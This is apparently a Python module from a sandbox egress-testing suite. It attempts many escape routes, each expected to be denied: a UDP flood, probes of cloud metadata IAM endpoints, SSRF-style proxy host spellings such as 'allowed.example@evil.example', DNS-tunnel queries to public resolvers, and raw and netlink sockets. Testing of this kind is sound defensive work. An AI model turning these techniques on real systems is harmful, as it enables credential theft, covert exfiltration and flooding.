"""Attacks by packets, connections and names. Standard library only: part of the attacking program.

Every address outside is one of those kept for documentation (RFC 5737, RFC 3849), or the host's own.
"""

from __future__ import annotations

import os
import random
import socket
import ssl
import struct
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from typing import Any

from trio_egress.attack.tries import (
    DENIED,
    SECONDS,
    Try,
    answer_of,
    judge_answer,
    open_socket,
    refuse_all,
    talk,
)

OUTSIDE_V4, OUTSIDE_V6 = "203.0.113.7", "2001:db8::7"
FLOOD = 20_000
FLOOD_PORT = 5353
PORTS = (*range(1, 151), *range(1000, 10_000, 200), 3306, 5432, 6379, 8443, 27017)
METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "fd00:ec2::254")
RESOLVERS = ("8.8.8.8", "1.1.1.1", "127.0.0.53", OUTSIDE_V4)
RECORD_TYPES = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
}
NXDOMAIN = 3
SO_MARK, IP_TRANSPARENT, SO_BINDTODEVICE = 36, 19, 25
UDPLITE = 136

SPELLINGS = (
    *("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "0x7f.1", "2130706433", "0177.0.0.1", "127.1"),  # noqa: S104
    *(
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "169.254.169.254",
        "evil.example",
        "host.internal",
        "LOCALHOST.",
    ),
    *("allowed.example.evil.example", "evil.example%00.allowed.example", "allowed.example@evil.example", ""),
)

Targets = dict[str, Any]


def list_network(targets: Targets) -> dict[str, Try]:
    """By row of kernel/attacks.py."""
    return {
        "datagrams": lambda: refuse_all(_datagrams()),
        "flood": _flood,
        "families": lambda: refuse_all(_families()),
        "protocols": lambda: refuse_all(_protocols()),
        "options": lambda: refuse_all(_options(targets)),
        "host_loopback_again": lambda: refuse_all(_host_loopback(targets)),
        "host_internal": lambda: _host_internal(targets),
        "ports": lambda: refuse_all(_ports()),
        "metadata": lambda: refuse_all(_metadata()),
        "server_names": lambda: refuse_all(_server_names()),
        "proxy": lambda: refuse_all(_proxy(targets)),
        "tunnel": lambda: refuse_all(_tunnel(targets)),
        "netlink": lambda: refuse_all(_netlink()),
    }


def _send(family: int, address: tuple[str, int], raw: bytes, protocol: int = 0) -> str:
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(raw, address)
    return "sent"


def _send_connected(family: int, address: tuple[str, int]) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.connect(address)
        sock.send(b"connected")
    return "sent"


def _send_as_member(group: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        membership = socket.inet_aton(group) + socket.inet_aton("127.0.0.1")
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        sock.sendto(b"as a member", (group, 9))
    return "sent"


def _datagrams() -> Iterator[tuple[str, Try]]:
    v4, v6 = socket.AF_INET, socket.AF_INET6
    addresses = [
        *((v4, address) for address in (OUTSIDE_V4, "224.0.0.251", "239.255.255.250", "255.255.255.255")),
        *((v4, address) for address in ("10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.1.1", "240.0.0.1")),
        *((v6, address) for address in (OUTSIDE_V6, "ff02::1", "ff0e::1", "fe80::1", "fd00::1")),
        *((v6, address) for address in (f"::ffff:{OUTSIDE_V4}", f"64:ff9b::{OUTSIDE_V4}")),
    ]
    for family, address in addresses:
        for port, raw in ((9, b"probe"), (443, b"\xc0" * 1200), (123, b""), (9, b"x" * 9000)):
            yield f"to {address}:{port}", partial(_send, family, (address, port), raw)
    yield "by connect and send", partial(_send_connected, v4, (OUTSIDE_V4, 9))
    yield "by UDP-Lite", partial(_send, v4, (OUTSIDE_V4, 9), b"probe", UDPLITE)
    yield "as a member of its group", partial(_send_as_member, "224.0.0.251")


def _flood() -> str:
    """The judge outside holds this number against the receipts."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for _ in range(FLOOD):
            try:
                sock.sendto(b"flood", (OUTSIDE_V4, FLOOD_PORT))
            except PermissionError:
                continue
            sent += 1
    return f"{sent} sent" if sent else f"{DENIED}{FLOOD} times EPERM"


def _families() -> Iterator[tuple[str, Try]]:
    used = (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK)
    for family in range(64):
        if family not in used:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                yield f"family {family}", partial(open_socket, family, kind)


def _protocols() -> Iterator[tuple[str, Try]]:
    spoken = (0, 1, 6, 17, 58, UDPLITE, 262)
    for family in (socket.AF_INET, socket.AF_INET6):
        for protocol in range(263):
            if protocol not in spoken:
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    yield f"protocol {protocol}", partial(open_socket, family, kind, protocol)


def _options(targets: Targets) -> Iterator[tuple[str, Try]]:
    yield "SO_MARK", partial(_set_option, socket.SOL_SOCKET, SO_MARK, 1)
    yield "IP_TRANSPARENT", partial(_set_option, socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    for name in targets["interfaces"]:
        yield (
            f"SO_BINDTODEVICE {name}",
            partial(_set_option, socket.SOL_SOCKET, SO_BINDTODEVICE, name.encode()),
        )
    yield "a low port of lo to speak from", partial(_speak_from, 53)


def _set_option(level: int, name: int, value: int | bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(level, name, value)
    return "was set"


def _speak_from(port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("127.0.0.1", port))
        sock.sendto(b"probe", (OUTSIDE_V4, 9))
    return "sent"


def _host_loopback(targets: Targets) -> Iterator[tuple[str, Try]]:
    port = targets["port"]
    for address in ("127.0.0.1", "127.1.2.3", "0.0.0.0"):  # noqa: S104  connects
        yield address, partial(talk, socket.AF_INET, (address, port), b"hello\n")
    for address in ("::1", "::ffff:127.0.0.1", "::"):
        yield address, partial(talk, socket.AF_INET6, (address, port), b"hello\n")
    yield "UDP", partial(_ask_udp, ("127.0.0.1", targets["udp_port"]))


def _ask_udp(address: tuple[str, int]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(SECONDS)
        sock.connect(address)
        sock.send(b"hello\n")
        return judge_answer(sock.recv(100))


def _host_internal(targets: Targets) -> str:
    try:
        socket.getaddrinfo("host.internal", targets["port"])
    except socket.gaierror as error:
        return f"{DENIED}no such name ({error.errno})"
    return "the name was resolved"


def _ports() -> Iterator[tuple[str, Try]]:
    for port in PORTS[:200]:
        if port != 53:
            yield f"port {port}", partial(talk, socket.AF_INET, (OUTSIDE_V4, port), b"hello\r\n\r\n")


def _metadata() -> Iterator[tuple[str, Try]]:
    request = (
        b"GET /latest/meta-data/iam/ HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata-Flavor: Google\r\n\r\n"
    )
    for address in METADATA:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        yield address, partial(talk, family, (address, 80), request)


def _server_names() -> Iterator[tuple[str, Try]]:
    for name in ("allowed.example", "evil.example", None):
        hello = _client_hello(name)
        for port in (443, 853, 8443):
            yield f"{name} on {port}", partial(talk, socket.AF_INET, (OUTSIDE_V4, port), hello)


def _client_hello(name: str | None) -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = name is not None
    out = ssl.MemoryBIO()
    connection = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    with suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return out.read()


def _proxy(targets: Targets) -> Iterator[tuple[str, Try]]:
    proxy = ("127.0.0.1", int(os.environ.get("TRIO_EGRESS_PROXY", ":0").rpartition(":")[2]))
    port = targets["port"]
    for host in SPELLINGS:
        place = f"{host}:{port}"
        for request in (
            f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n",
            f"GET http://{place}/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
            f"GET / HTTP/1.1\r\nHost: {place}\r\n\r\n",
        ):
            yield request.split("\r\n")[0], partial(talk, socket.AF_INET, proxy, request.encode())


def _tunnel(targets: Targets) -> Iterator[tuple[str, Try]]:
    chance = random.Random(targets["token"])  # noqa: S311  names that differ, nothing secret
    for number, (name, kind) in enumerate(RECORD_TYPES.items()):
        for resolver in RESOLVERS:
            data = ".".join(f"{chance.getrandbits(240):060x}" for _ in range(3))
            query = _query(f"{data}.tunnel.example", kind)
            yield f"{name} at {resolver}", partial(_ask_resolver, resolver, query)
            if number < 2:
                yield f"{name} at {resolver} by TCP", partial(_ask_by_tcp, resolver, query)


def _query(name: str, kind: int) -> bytes:
    """RFC 1035, 4.1."""
    labels = b"".join(bytes([len(label)]) + label.encode("ascii") for label in name.split("."))
    return struct.pack(">HHHHHH", 0x7E57, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def _ask_resolver(resolver: str, query: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(SECONDS)
        sock.sendto(query, (resolver, 53))
        return _judge_reply(sock.recv(4096))


def _ask_by_tcp(resolver: str, query: bytes) -> str:
    with socket.create_connection((resolver, 53), SECONDS) as sock:
        sock.sendall(struct.pack(">H", len(query)) + query)
        raw = sock.recv(4096)
    return _judge_reply(raw[2:])


def _judge_reply(raw: bytes) -> str:
    if len(raw) < 12:
        return f"{DENIED}closed"
    code, answers = raw[3] & 0xF, struct.unpack(">H", raw[6:8])[0]
    return f"{DENIED}NXDOMAIN" if (code, answers) == (NXDOMAIN, 0) else f"was answered with code {code}"


def _netlink() -> Iterator[tuple[str, Try]]:
    for protocol in range(1, 32):
        yield f"netlink {protocol}", partial(open_socket, socket.AF_NETLINK, socket.SOCK_RAW, protocol)


def reach_allowed(targets: Targets) -> str:
    """The control of all network rows: what the policy allows gets through, so the network is no dead one."""
    request = b"GET / HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n"
    return answer_of(lambda: _fetch("allowed.example", request, targets["token"]))


def _fetch(host: str, request: bytes, token: str) -> str:
    raw = b""
    with socket.create_connection((host, 80), SECONDS) as sock:
        sock.sendall(request)
        while piece := sock.recv(4096):
            raw += piece
    return "reached" if token.encode() in raw else f"answered {raw[:60]!r}"
